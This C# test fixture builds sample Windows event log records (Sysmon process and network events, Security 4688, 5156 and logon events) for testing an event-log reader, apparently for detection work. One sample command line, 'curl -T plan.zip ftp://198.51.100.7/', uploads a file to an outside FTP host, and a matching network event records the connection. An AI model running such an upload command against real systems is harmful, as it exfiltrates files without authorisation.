namespace Det0131.Datasets.Tests.Readers.Windows.EventLogs;

/// <summary>Records as Windows writes them: instances of one template for each event id, made of a System and an EventData element.</summary>
internal static class SampleEvents
{
    private const string Xmlns = "http://schemas.microsoft.com/win/2004/08/events/event";
    private const string Sysmon = "Microsoft-Windows-Sysmon";
    private const string Security = "Microsoft-Windows-Security-Auditing";

    /// <summary>Sysmon 1 and 3, Security 4688 and 5156, and a logon, which is not read.</summary>
    public static EventLogWriter All() => new EventLogWriter()
        .Record(log => Start(log, "curl -T plan.zip ftp://198.51.100.7/ "))
        .Record(log => Start(log, "curl \"a\\b\"\t\u00E9\U0001F600"))
        .Record(log => Event(log, Sysmon, 3, "2026-03-01T10:00:02.5Z",
            ("UtcTime", LogValue.Text("2026-03-01 10:00:02.400")), ("ProcessGuid", new LogValue(0x0F, new Guid("0197231e-61ef-693a-c812-000000000800").ToByteArray())),
            ("ProcessId", LogValue.Number32(6400)), ("Image", LogValue.Text("C:\\Windows\\System32\\curl.exe")), ("User", LogValue.Text("CORP\\ann")),
            ("Protocol", LogValue.Text("tcp")), ("Initiated", new LogValue(0x0D, BitConverter.GetBytes(1))), ("SourceIp", LogValue.Text("10.0.0.5")), ("SourcePort", LogValue.Number16(50123)),
            ("DestinationIp", LogValue.Text("198.51.100.7")), ("DestinationPort", LogValue.Number16(21))))
        .Record(log => Event(log, Security, 4688, "2026-03-01T10:00:03Z",
            ("SubjectUserSid", new LogValue(0x13, [1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0])), ("SubjectUserName", LogValue.Text("PC$")), ("SubjectDomainName", LogValue.Text("CORP")),
            ("NewProcessId", new LogValue(0x15, BitConverter.GetBytes(0xF84L))), ("NewProcessName", LogValue.Text("C:\\Windows\\System32\\cmd.exe")),
            ("ProcessId", new LogValue(0x15, BitConverter.GetBytes(0xB2CL))), ("CommandLine", LogValue.None), ("ParentProcessName", LogValue.Text("C:\\Windows\\explorer.exe"))))
        .Record(log => Event(log, Security, 5156, "2026-03-01T10:00:04Z",
            ("ProcessID", LogValue.Number64(3548)), ("Application", LogValue.Text("\\device\\harddiskvolume4\\windows\\system32\\dns.exe")), ("Direction", LogValue.Text("%%14593")),
            ("SourceAddress", LogValue.Text("10.0.0.5")), ("SourcePort", LogValue.Text("60503")), ("DestAddress", LogValue.Text("198.51.100.9")), ("DestPort", LogValue.Text("53")),
            ("Protocol", LogValue.Number32(17))))
        .Record(log => Event(log, Security, 4624, "2026-03-01T10:00:05Z", ("TargetUserName", LogValue.Text("ann"))));

    public static void Start(EventLogWriter log, string command) => Event(log, Sysmon, 1, "2026-03-01T10:00:00.1234567Z",
        ("UtcTime", LogValue.Text("2026-03-01 10:00:00.100")), ("ProcessGuid", new LogValue(0x0F, new Guid("0197231e-61ef-693a-c812-000000000800").ToByteArray())),
        ("ProcessId", LogValue.Number32(6400)), ("Image", LogValue.Text("C:\\Windows\\System32\\curl.exe")), ("CommandLine", LogValue.Text(command)), ("User", LogValue.Text("CORP\\ann")));

    /// <summary>One event: the template takes what differs as values.</summary>
    public static void Event(EventLogWriter log, string provider, ushort id, string time, params (string Name, LogValue Value)[] data)
    {
        var channel = provider == Sysmon ? "Microsoft-Windows-Sysmon/Operational" : "Security";
        LogValue[] values = [LogValue.Number16(id), LogValue.None, LogValue.Time(time), LogValue.Number64(77), LogValue.Number32(3308), .. data.Select(one => one.Value)];
        log.Fragment().Instance($"{provider}/{id}", template => template.Fragment()
            .Open("Event", inTemplate: true, ("xmlns", to => to.Text(Xmlns)))
            .Open("System", inTemplate: true)
            .Element("Provider", _ => { }, ("Name", to => to.Text(provider)))
            .Element("EventID", to => to.Put(0, 0x06), ("Qualifiers", to => to.Put(1, 0x06, optional: true)))
            .Element("TimeCreated", _ => { }, ("SystemTime", to => to.Put(2, 0x11)))
            .Element("EventRecordID", to => to.Put(3, 0x0A))
            .Element("Correlation", _ => { }, ("ActivityID", to => to.Put(1, 0x0F, optional: true)))
            .Element("Execution", _ => { }, ("ProcessID", to => to.Put(4, 0x08)))
            .Element("Channel", to => to.Text(channel))
            .Element("Computer", to => to.Text("pc1.corp.example"))
            .Close()
            .Open("EventData", inTemplate: true)
            .Each(data.Length, (to, index) => to.Element("Data", inner => inner.Put(5 + index), ("Name", inner => inner.Text(data[index].Name))))
            .Close().Close().End(), values).End();
    }

    private static EventLogWriter Each(this EventLogWriter log, int count, Action<EventLogWriter, int> write)
    {
        for (var index = 0; index < count; index++)
        {
            write(log, index);
        }

        return log;
    }
}
